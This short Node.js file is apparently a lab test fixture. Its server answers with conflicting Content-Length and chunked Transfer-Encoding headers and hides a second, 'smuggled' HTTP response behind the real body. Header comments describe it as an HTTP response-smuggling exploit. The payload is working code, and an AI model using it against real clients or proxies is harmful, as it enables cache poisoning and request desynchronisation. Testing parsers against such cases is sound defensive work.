// exploit: gives a length and chunks at once, the way that answers are smuggled past proxies
// kind: lab
// exchange: none
// steps: GET / | GET /
// outcome: finished
// sees: "body":"real"
// hides: smuggled
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.write('HTTP/1.1 200 OK\r\nContent-Length: 90\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nreal\r\n0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled')
}).listen(process.env.PORT)
